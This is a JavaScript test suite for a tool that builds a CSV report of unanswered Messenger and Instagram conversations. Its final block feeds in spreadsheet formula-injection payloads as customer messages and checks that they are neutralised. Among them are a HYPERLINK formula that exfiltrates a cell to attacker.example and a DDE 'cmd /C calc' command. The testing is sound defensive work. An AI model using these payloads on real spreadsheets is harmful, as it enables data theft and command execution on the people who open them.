// The report of who waits, of both platforms, with owners, failures, and customers who try to write formulas.
import assert from "node:assert/strict";
import { beforeEach, describe, it } from "node:test";
import { createInbox } from "graph-inbox";
import { createGraphSimulator } from "graph-inbox/simulator";
import { cellOf, reportUnanswered } from "../../recipes/unanswered-report.mjs";
import { personOf, prints } from "../package/graph.mjs";

const TOKEN = "EAATokenOfTheReportThatStaysInside";
const HOUR = 3_600_000;

/** @typedef {Parameters<typeof reportUnanswered>[0]} Options */

/** Time on Graph, in milliseconds. */
let nowMs = 0;
/** @type {import("graph-inbox/simulator").GraphSimulator} */
let simulator;

beforeEach(() => {
	nowMs = Date.parse("2026-11-20T08:00:00Z");
	simulator = createGraphSimulator({
		accessToken: TOKEN,
		conversations: { messenger: 6, instagram: 4 },
		now: () => nowMs,
	});
});

/**
 * @param {Partial<Options>} [options]
 * @returns {Promise<Awaited<ReturnType<typeof reportUnanswered>> & { cells: string[][] }>}
 */
async function report(options) {
	const { pageId, instagramAccountId, appId, fetch } = simulator;
	const inbox = createInbox({
		...{ pageId, instagramAccountId, appId, fetch, accessToken: TOKEN },
		...{ callsPerSecond: false, maxRetries: 0 },
	});
	const made = await reportUnanswered({
		inbox,
		businessIds: [pageId, instagramAccountId],
		// After everything that the simulator begins with.
		since: new Date("2026-11-20T08:00:00Z"),
		now: new Date(nowMs),
		...options,
	});
	assert.ok(!prints(made).includes(TOKEN));
	assert.ok(made.csv.startsWith("\uFEFF") && made.csv.endsWith("\r\n"));
	const lines = made.csv.slice(1, -2).split("\r\n");
	const cells = lines
		.slice(1)
		.map((line) =>
			Array.from(line.matchAll(/"((?:[^"]|"")*)"/g), ([, cell]) =>
				cell.replaceAll('""', '"'),
			),
		);
	assert.equal(cells.length, made.rows);
	return { ...made, cells };
}

/** @param {string} text @param {object} [message] */
function write(text, message) {
	nowMs += HOUR;
	return simulator.receiveMessage({ text, ...message });
}

describe("unanswered-report", () => {
	it("has who waits, who waits longest first, of both platforms", async () => {
		const first = write("Is it open?");
		const second = write("Hello", { platform: "instagram" });
		write("Anybody there?", { conversationId: first.id });
		const recipient = personOf(first, simulator);
		simulator.setOwner(recipient, { app_id: simulator.appId });
		simulator.setOwner(personOf(second, simulator), null);
		nowMs += 22.5 * HOUR;
		const { cells, failures } = await report();
		assert.deepEqual(failures, new Map());
		const [one, other] = cells;
		assert.deepEqual(one, [
			...["2026-11-20T09:00:00.000Z", "2026-11-21T11:00:00.000Z", "yes"],
			...[one[3], "Anybody there?", "self", "messenger", first.id],
		]);
		assert.deepEqual(other, [
			...["2026-11-20T10:00:00.000Z", "2026-11-21T10:00:00.000Z", "yes"],
			...[other[3], "Hello", "idle", "instagram", second.id],
		]);
		const [person] = first.participants?.data ?? [];
		assert.equal(one[3], person.name);
		nowMs += 24 * HOUR;
		assert.deepEqual(
			(await report()).cells.map((row) => row[2]),
			["no", "no"],
		);
	});

	it("leaves out who was answered", async () => {
		// The simulator's own conversations: some end with an answer.
		const { cells } = await report({ since: new Date(0) });
		const all = ["MESSENGER", "INSTAGRAM"].flatMap((platform) =>
			simulator.conversations({
				platform: /** @type {"MESSENGER" | "INSTAGRAM"} */ (platform),
				fields: "id,messages.limit(1){from}",
			}),
		);
		const business = [simulator.pageId, simulator.instagramAccountId];
		const waiting = all.filter(
			({ messages }) => !business.includes(String(messages?.data[0].from?.id)),
		);
		assert.ok(waiting.length > 0 && waiting.length < all.length);
		assert.deepEqual(
			cells.map((row) => row[7]).toSorted(),
			waiting.map(({ id }) => id).toSorted(),
		);
	});

	it("has conversations whose messages could not be read", async () => {
		const { id } = write("Too heavy");
		simulator.breakConversation(id, { unreadable: ["messages"] });
		const [row] = (await report()).cells;
		assert.deepEqual(
			[row[0], row[2], row[4], row[7]],
			["not known", "", "(could not be read)", id],
		);
	});

	it("has the rest where a platform or an owner fails", async () => {
		const { id } = write("Hello");
		write("Hello", { platform: "instagram" });
		simulator.failWhen(/INSTAGRAM/, "permission");
		simulator.failItems(/./, "permission");
		const { cells, failures } = await report();
		assert.deepEqual(
			cells.map((row) => [row[5], row[7]]),
			[["not known (permission)", id]],
		);
		assert.deepEqual([...failures.keys()], ["instagram"]);
	});

	it("ends when it is aborted", async () => {
		const reason = new Error("enough");
		const signal = AbortSignal.abort(reason);
		write("Hello");
		const { rows, failures } = await report({ signal }).catch((error) => {
			assert.equal(error, reason);
			return { rows: 0, failures: new Map([["messenger", reason]]) };
		});
		assert.equal(rows, 0);
		assert.equal(failures.get("messenger"), reason);
	});
});

describe("what strangers wrote", () => {
	const formulas = [
		'=HYPERLINK("https://attacker.example/?"&A1,"Invoice")',
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1)",
		"\t=1+1",
		"\r\n=1+1",
		"  =1+1",
		'";=1+1;"',
		"harmless;=1+1",
		'harmless","=1+1',
		"harmless\n=1+1",
		"＝1+1",
		"＠SUM(1)",
		"\u202E=1+1",
	];
	for (const formula of formulas)
		it(`is no formula: ${JSON.stringify(formula)}`, async () => {
			const written = write(formula, { name: formula });
			const { csv, rows } = await report();
			assert.equal(rows, 1, written.id);
			// As a program reads it, whichever separator it takes.
			for (const separator of [",", ";", "\t", "|"])
				for (const line of csv.slice(1).split(/\r\n|\r|\n/))
					for (const cell of line.split(separator))
						assert.doesNotMatch(
							cell,
							/^["\s]*[=+\-@＝＋－＠]/u,
							`${separator}`,
						);
		});

	it("is shown as it is otherwise", () => {
		for (const text of ["Is it open? ☕", "a - b", "mail@example.com", "1 = 1"])
			assert.equal(cellOf(text), `"${text}"`);
		assert.equal(cellOf('She said "yes"'), '"She said ""yes"""');
	});
});
